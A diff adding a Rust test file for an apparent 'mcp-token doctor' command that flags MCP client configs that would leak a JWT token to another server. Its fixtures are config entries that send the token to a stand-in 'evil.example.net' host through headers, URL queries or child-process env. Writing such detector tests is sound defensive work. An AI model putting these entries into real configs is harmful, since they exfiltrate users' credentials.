@@ -1,0 +1,182 @@
+//! `mcp-token doctor`: no line that it prints puts a token into a variable as long as another server would be shown it too.
+
+use std::fs;
+
+use crate::keeper::Keeper;
+use crate::sandbox::stdout;
+use crate::ward::{URL, Ward};
+
+const CLAUDE: &str = "~/.claude.json";
+const CURSOR: &str = "~/.cursor/mcp.json";
+const GEMINI: &str = "~/.gemini/settings.json";
+const PROJECT: &str = "p/.cursor/mcp.json";
+const EVIL: &str = "https://evil.example.net/mcp";
+const EXPORT: &str = "export EXAI_JWT_TOKEN=$(mcp-token get exai)";
+const ITS_URL: &str = "first its URL: what is put into the variable goes there";
+const UNKNOWN: &str = "first its URL: nobody knows where that leads";
+
+fn entry(name: &str, url: &str, header: &str) -> String {
+    format!(r#""{name}":{{"url":"{url}","headers":{{{header}}}}}"#)
+}
+
+fn with_variable(name: &str, url: &str) -> String {
+    entry(name, url, r#""Authorization":"Bearer ${env:EXAI_JWT_TOKEN}""#)
+}
+
+fn file(entries: &[&str]) -> String {
+    format!(r#"{{"mcpServers":{{{}}}}}"#, entries.join(","))
+}
+
+/// What is to be done about a variable that the server `name` is to be shown and that is not set: the command, or by hand.
+#[track_caller]
+fn told(ward: &Ward, args: &[&str], name: &str) -> String {
+    let found = ward.findings(args);
+    let is_it = |message: &str| message.contains(&format!("`{name}` refers to `EXAI_JWT_TOKEN`"));
+    let those: Vec<_> = found.iter().filter(|one| is_it(one["message"].as_str().unwrap())).collect();
+    assert_eq!(those.len(), 1, "{found:?}");
+    let text = |key: &str| those[0][key].as_str().map(str::to_owned);
+    text("command").or(text("mend")).unwrap()
+}
+
+/// With nothing that it prints for the entry of the profile's server the other one is sent the token.
+#[test]
+fn a_variable_that_another_server_is_shown_gets_no_token() {
+    let ward = Ward::exai();
+    let good = with_variable("exai", URL);
+    let first = |file: &str| {
+        format!(
+            "first the URL of `other` in `{file}`, or another variable there: it would be sent the token too"
+        )
+    };
+    for other in [
+        with_variable("other", EVIL),
+        entry("other", EVIL, r#""X-Mine":"${env:EXAI_JWT_TOKEN}""#),
+        entry("other", &format!("{EVIL}?x=${{env:EXAI_JWT_TOKEN}}"), ""),
+        with_variable("other", "https://${env:NONE}/mcp"),
+        r#""other":{"command":"npx","args":["mcp-remote@0.1.5","https://evil.example.net"],"env":{"A":"${env:EXAI_JWT_TOKEN}"}}"#
+            .to_owned(),
+    ] {
+        ward.file(CURSOR, file(&[&good, &other]));
+        assert_eq!(told(&ward, &[], "exai"), first(CURSOR), "{other}");
+    }
+    // So it is in whatever file that was found, be it a project's.
+    let other = with_variable("other", EVIL);
+    ward.file(CURSOR, file(&[&good]));
+    ward.file(GEMINI, file(&[&other.replace("env:", "")]));
+    assert_eq!(told(&ward, &[], "exai"), first(GEMINI));
+    let found = ward.findings(&[]);
+    let is_it = |one: &&serde_json::Value| one["mend"] == first(GEMINI);
+    assert_eq!(found.iter().find(is_it).unwrap()["edit"], format!("nano +1 {GEMINI}"));
+    fs::remove_file(ward.path(GEMINI)).unwrap();
+    ward.file(PROJECT, file(&[&other]));
+    assert_eq!(told(&ward, &[], "exai"), EXPORT, "it is not looked at");
+    assert_eq!(told(&ward, &["--project", "p"], "exai"), first("./p/.cursor/mcp.json"));
+    // What is switched off, refers to another variable or in a form that is not read, or leads to the same server is no reason.
+    for other in [
+        with_variable("other", EVIL).replacen('{', r#"{"disabled":true,"#, 1),
+        with_variable("other", EVIL).replace("EXAI", "OTHER"),
+        with_variable("other", EVIL).replace("env:", ""),
+        with_variable("other", &format!("{URL}/")),
+        r#""other":{"command":"x","env":{"A":"${env:EXAI_JWT_TOKEN}"}}"#.to_owned(),
+    ] {
+        ward.file(CURSOR, file(&[&good, &other]));
+        assert_eq!(told(&ward, &[], "exai"), EXPORT, "{other}");
+    }
+    // What is said is done, and the line is printed.
+    ward.file(CURSOR, file(&[&good, &with_variable("other", EVIL)]));
+    assert_eq!(told(&ward, &[], "other"), ITS_URL);
+    ward.mended(&[], "other_server", "mcp-token client install cursor --profile exai --name other");
+    assert_eq!(told(&ward, &[], "exai"), EXPORT);
+}
+
+/// The URL of an entry of the user's is the user's own word.
+#[test]
+fn a_project_alone_says_of_no_server_that_it_is_shown_a_token() {
+    let first = |file: &str| {
+        format!("first `mcp-token profile set exai --url URL`: else `{file}` says where its token goes")
+    };
+    for place in [PROJECT, "p/.mcp.json"] {
+        let ward = Ward { keeper: Keeper::exai() };
+        let entry = with_variable("exai", EVIL).replacen('{', r#"{"type":"http","#, 1);
+        let entry = if place == PROJECT { entry } else { entry.replace("env:", "") };
+        ward.file(place, file(&[&entry]));
+        assert_eq!(told(&ward, &["--project", "p"], "exai"), first(&format!("./{place}")));
+        ward.file(CURSOR, file(&[&with_variable("mine", EVIL)]));
+        assert_eq!(told(&ward, &[], "mine"), EXPORT);
+        assert_eq!(told(&ward, &["--project", "p"], "mine"), first(&format!("./{place}")));
+        // As soon as the profile says it.
+        ward.keeper.set(&["exai", "--url", URL]);
+        fs::remove_file(ward.path(CURSOR)).unwrap();
+        assert_eq!(told(&ward, &["--project", "p"], "exai"), ITS_URL);
+        ward.file(place, file(&[&entry.replace(EVIL, URL)]));
+        assert_eq!(told(&ward, &["--project", "p"], "exai"), EXPORT);
+        // Nor does it of a program.
+        let reference = if place == PROJECT { "${env:EXAI_JWT_TOKEN}" } else { "${EXAI_JWT_TOKEN}" };
+        let started = format!(r#""exai":{{"command":"x","env":{{"A_TOKEN":"{reference}"}}}}"#);
+        ward.file(place, file(&[&started]));
+        let client = if place == PROJECT { "Cursor" } else { "Claude Code" };
+        let set = format!("set `EXAI_JWT_TOKEN` before {client} starts");
+        assert_eq!(told(&ward, &["--project", "p"], "exai"), set);
+        fs::remove_file(ward.path(place)).unwrap();
+        ward.file(CURSOR, file(&[&started.replace("${EXAI", "${env:EXAI")]));
+        assert_eq!(told(&ward, &["--project", "p"], "exai"), EXPORT);
+    }
+}
+
+#[test]
+fn a_url_is_compared_as_its_variables_say() {
+    let ward = Ward::exai();
+    let other = "sends the token of `exai` to another server";
+    for (path, url, token) in [
+        (GEMINI, "https://$H/mcp", "$EXAI_JWT_TOKEN"),
+        (CURSOR, "https://${env:H}/mcp", "${env:EXAI_JWT_TOKEN}"),
+        (CLAUDE, "https://${H}/mcp", "${EXAI_JWT_TOKEN}"),
+    ] {
+        let key = if path == GEMINI { "httpUrl" } else { "url" };
+        let header = format!(r#""headers":{{"Authorization":"Bearer {token}"}}"#);
+        let entry = format!(r#""exai":{{"type":"http","{key}":"{url}",{header}}}"#);
+        ward.file(path, file(&[&entry]));
+        assert_eq!(told(&ward, &[], "exai"), UNKNOWN, "{url}");
+        for (host, mend, exit) in [("evil.example.net", ITS_URL, 4), ("mcp.example.com", EXPORT, 0)] {
+            let assert = ward.keeper.run_with(&["doctor"], |command| command.env("H", host)).code(exit);
+            let text = stdout(&assert);
+            assert_eq!(text.contains(other), exit == 4, "{text}");
+            assert!(text.contains(mend) && text.contains(EXPORT) == (mend == EXPORT), "{text}");
+        }
+        fs::remove_file(ward.path(path)).unwrap();
+    }
+}
+
+#[test]
+fn an_entry_that_leads_nowhere_sends_nothing() {
+    let ward = Ward::exai();
+    for (url, code) in [("", "skipped"), ("https://far.example", "other_server")] {
+        ward.file(CURSOR, file(&[&with_variable("exai", url)]));
+        let found = ward.findings(&[]);
+        let codes: Vec<_> = found.iter().map(|one| one["code"].as_str().unwrap()).collect();
+        assert_eq!(codes, [code, "unset_variable"], "{found:?}");
+    }
+}
+
+/// It stands below the last of those that it mends, and mends each of them.
+#[test]
+fn what_mends_two_findings_is_told_once() {
+    let ward = Ward::exai();
+    ward.file(CURSOR, file(&[&with_variable("exai", &URL.replace("https", "http"))]));
+    let clients = format!(
+        "clients
+  HIGH  cursor  {CURSOR}: `exai` sends its token to http://mcp.example.com/mcp, not encrypted
+  HIGH  cursor  {CURSOR}: `exai` sends the token of `exai` to another server
+                mcp-token client install cursor --profile exai
+  warn  cursor  {CURSOR}: `exai` refers to `EXAI_JWT_TOKEN`, which is not set: what the server is sent is not known
+                by hand: {ITS_URL}
+                nano +1 {CURSOR}
+secrets
+"
+    );
+    let text = ward.keeper.plain(&stdout(&ward.doctor(&[]).code(4)));
+    assert!(text.contains(&clients), "{text}");
+    ward.mended(&[], "unencrypted", "mcp-token client install cursor --profile exai");
+    let found = ward.found(&[]);
+    assert_eq!((found.len(), &*found[0].0, &*found[0].3), (1, "unset_variable", EXPORT), "{found:?}");
+}
